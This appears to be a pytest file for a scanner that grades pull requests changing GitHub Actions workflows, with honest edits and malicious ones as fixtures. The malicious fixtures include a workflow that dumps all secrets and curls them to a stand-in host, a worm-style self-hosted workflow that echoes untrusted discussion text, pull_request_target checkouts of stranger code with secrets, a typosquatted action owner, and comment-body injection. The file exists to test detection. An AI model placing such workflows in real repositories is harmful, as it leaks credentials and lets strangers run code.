"""Pull requests that change workflows: honest ones pass, those that open the repository do not."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import pytest

from scanner.codescan import engine
from scanner.errors import EngineError
from scanner.model.finding import FindingClass
from scanner.model.report import Report
from scanner.pipeline.base import scan_base
from scanner.pipeline.scan import Settings
from tests.targets.repositories import Git

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
CI, RELEASE = ".github/workflows/ci.yml", ".github/workflows/release.yml"
OLD, NEW, OTHER = "1a" * 20, "2b" * 20, "3c" * 20
BEFORE = {
    CI: f"""\
name: ci
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [20, 22]
    steps:
      - uses: actions/checkout@{OTHER} # v4.1.1
      - uses: tj-actions/changed-files@{OLD} # v45.0.6
      - run: npm ci && npm test
""",
    RELEASE: f"""\
name: release
on:
  push:
    tags: ['v*']
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@{OTHER} # v4.1.1
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: ${{{{ secrets.NPM_TOKEN }}}}
""",
}
DUMP = """\
name: lint
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - env:
          ALL: ${{ toJSON(secrets) }}
        run: |
          echo "$ALL" > lint.json
          curl -s -d @lint.json https://collect.invalid/lint
"""
WORM = """\
name: discussion
on: discussion
jobs:
  process:
    env:
      RUNNER_TRACKING_ID: 0
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v5
      - name: Handle Discussion
        run: echo ${{ github.event.discussion.body }}
"""
TARGET = BEFORE[CI].replace("[push, pull_request]", "{push: , pull_request_target: {types: [opened, synchronize]}}")
TARGET = TARGET.replace(
    "# v4.1.1\n", "# v4.1.1\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n", 1
).replace("    strategy:", "    env: {TOKEN: '${{ secrets.NPM_TOKEN }}'}\n    strategy:")


class Proposal(NamedTuple):
    """One pull request."""

    name: str
    files: dict[str, str | None]
    worst: str
    """The gravest that is told of it."""
    title: str = ""


def edited(path: str, old: str, new: str) -> dict[str, str | None]:
    assert old in BEFORE[path]
    return {path: BEFORE[path].replace(old, new)}


HONEST = [
    Proposal(
        "a bot bumps a pin, and the version beside it",
        edited(CI, f"{OLD} # v45.0.6", f"{NEW} # v45.0.7"),
        "low",
        "comes from somewhere else than before",
    ),
    Proposal("another version of node is tested", edited(CI, "[20, 22]", "[20, 22, 24]"), "none"),
    Proposal(
        "a new job with an action of GitHub's own",
        {CI: BEFORE[CI] + "  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-python@v5\n"},
        "none",
    ),
    Proposal("a workflow is renamed", {CI: None, ".github/workflows/test.yml": BEFORE[CI]}, "none"),
    Proposal(
        "a workflow is renamed and edited",
        {CI: None, ".github/workflows/test.yml": BEFORE[CI].replace("name: ci", "name: test")},
        "none",
    ),
    Proposal(
        "an action that is known gets into another workflow",
        edited(
            RELEASE, "      - run: npm", f"      - uses: tj-actions/changed-files@{OLD} # v45.0.6\n      - run: npm"
        ),
        "none",
    ),
    Proposal(
        "a new action by its commit, in a job that holds nothing",
        edited(CI, "      - run", f"      - uses: octo/setup@{NEW} # v1.2.3\n      - run"),
        "low",
        "comes from somewhere else than before",
    ),
    Proposal(
        "a new action by its tag, in a job that holds nothing",
        edited(CI, "      - run", "      - uses: octo/setup@v1\n      - run"),
        "medium",
        "runs code of somebody whom nothing here trusted, by a name that can be moved",
    ),
]
MALICIOUS = [
    Proposal(
        "the pin moves under the same version",
        edited(CI, OLD, NEW),
        "high",
        "pins another commit under the name of the same version",
    ),
    Proposal(
        "strangers' code is tested with secrets",
        {CI: TARGET},
        "critical",
        "lets strangers bring code or commands into a job that holds secrets or may write",
    ),
    Proposal("all secrets are dumped", {".github/workflows/lint.yml": DUMP}, "critical"),
    Proposal(
        "pull requests run on machines of one's own",
        edited(CI, "runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"),
        "high",
        "lets strangers bring code or commands into a workflow",
    ),
    Proposal(
        "the workflow of a worm",
        {".github/workflows/discussion.yaml": WORM},
        "high",
        "lets strangers bring code or commands into a workflow",
    ),
    Proposal(
        "an unknown action is given a secret",
        edited(
            RELEASE,
            "      - run",
            f"      - uses: quick/notify@{NEW}\n        with: {{token: '${{{{ secrets.NPM_TOKEN }}}}'}}\n      - run",
        ),
        "high",
        "trusts somebody new with secrets or rights to write, or under a name that imitates another",
    ),
    Proposal(
        "an unknown action in a job that may write",
        edited(RELEASE, "      - run", "      - uses: quick/notify@v1\n      - run"),
        "high",
        "trusts somebody new with secrets or rights to write, or under a name that imitates another",
    ),
    Proposal(
        "an owner who is called almost like another",
        edited(CI, "tj-actions/changed-files", "tj-action/changed-files"),
        "high",
        "trusts somebody new with secrets or rights to write, or under a name that imitates another",
    ),
    Proposal(
        "words of strangers in the script of an action",
        {
            "action.yml": "runs: {using: composite, steps: [{shell: bash, run: 'echo ${{ github.head_ref }}'}]}\n",
            RELEASE: BEFORE[RELEASE].replace("push:\n    tags: ['v*']", "issue_comment:").replace(
                "npm publish", "./reply ${{ github.event.comment.body }}"
            ),
        },
        "critical",
        "lets strangers bring code or commands into a job that holds secrets or may write",
    ),
]  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def _engine() -> None:
    try:
        engine.find(os.environ)
    except EngineError:
        pytest.skip("semgrep is not here: pip install 'pratique[code]'")


@pytest.fixture
def git(tmp_path: Path) -> Git:
    repository = Git(tmp_path / "project")
    repository.commit_files("before", {"README": "x", **BEFORE})
    repository("checkout", "--quiet", "-b", "change")
    return repository


def look(git: Git, db: Path, tmp_path: Path, files: dict[str, str | None]) -> Report:
    git.commit_files("after", {**files})
    environ = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    settings = Settings(intel_directory=db, now=lambda: NOW, environ=environ, home=tmp_path / "nowhere")
    return scan_base(git.root, "main", settings)


def worst(report: Report) -> tuple[str, str]:
    found = [one for one in report.findings if one.title.startswith("this repository: ")]
    assert {one.class_ for one in found} <= {FindingClass.SUSPICIOUS_CHANGE}
    first = max(found, key=lambda finding: finding.severity, default=None)
    return ("none", "") if first is None else (first.severity.word, first.title.partition(": ")[2])


@pytest.mark.parametrize("proposal", HONEST, ids=lambda proposal: proposal.name)
def test_an_honest_change_passes(git: Git, db: Path, tmp_path: Path, proposal: Proposal) -> None:
    report = look(git, db, tmp_path, proposal.files)
    assert worst(report) == (proposal.worst, proposal.title)
    # The feed of actions is not here, which is all that there is to say.
    assert [reason for reason in report.reasons if not reason.startswith("feed not synchronised")] == []


@pytest.mark.parametrize("proposal", MALICIOUS, ids=lambda proposal: proposal.name)
def test_a_change_that_opens_the_repository_does_not(git: Git, db: Path, tmp_path: Path, proposal: Proposal) -> None:
    report = look(git, db, tmp_path, proposal.files)
    severity, title = worst(report)
    assert severity == proposal.worst
    assert not proposal.title or title == proposal.title
    assert report.exit_code == 1


def test_a_workflow_that_is_no_yaml_is_a_loss(git: Git, db: Path, tmp_path: Path) -> None:
    report = look(git, db, tmp_path, {CI: "on: [push\n"})
    assert CI in {problem.where for problem in report.coverage.problems if not problem.harmless}
    assert report.exit_code == 3
